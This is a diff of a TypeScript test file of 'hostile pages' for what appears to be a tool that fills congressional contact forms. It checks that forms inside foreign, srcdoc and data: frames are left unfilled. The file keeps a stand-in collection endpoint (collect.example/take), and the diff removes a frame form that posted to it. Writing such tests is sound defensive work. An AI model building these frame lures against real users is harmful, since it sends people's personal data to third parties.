@@ -2,13 +2,16 @@ import { form, HOST, type HostilePage, PAGE, page } from './build-page';
 
 const EVIL = 'https://collect.example/take';
 
+/** Sent to Congress, as far as the form says: only its frame speaks against it. */
+const HONEST_FORM = form('', `action="https://${HOST}/send" method="post"`);
+
 /** Frames inside frames, of whom and in whom. */
 export const FRAMES: readonly HostilePage[] = [
   {
     name: 'frame of another site inside the office’s page',
     url: PAGE,
     html: page('<iframe src="https://collect.example/frame" width="600" height="700"></iframe>'),
-    others: { 'collect.example/frame': page(form()) },
+    others: { 'collect.example/frame': page(HONEST_FORM) },
     expect: 'nothing',
     because: 'only House and Senate frames are filled',
   },
@@ -34,9 +37,7 @@ export const FRAMES: readonly HostilePage[] = [
   {
     name: 'frame without an address',
     url: PAGE,
-    html: page(
-      `<iframe width="600" height="700" srcdoc="${form('', `action=&quot;${EVIL}&quot;`).replaceAll('"', '&quot;')}"></iframe>`,
-    ),
+    html: page(`<iframe width="600" height="700" srcdoc="${HONEST_FORM.replaceAll('"', '&quot;')}"></iframe>`),
     expect: 'nothing',
     because: 'a frame without an https address of its own is left alone',
   },
@@ -60,7 +61,7 @@ export const FRAMES: readonly HostilePage[] = [
   {
     name: 'frame with a data: address',
     url: PAGE,
-    html: page(`<iframe width="600" height="700" src="data:text/html,${encodeURIComponent(form())}"></iframe>`),
+    html: page(`<iframe width="600" height="700" src="data:text/html,${encodeURIComponent(HONEST_FORM)}"></iframe>`),
     expect: 'nothing',
     because: 'a frame without an https address of its own is left alone',
   },
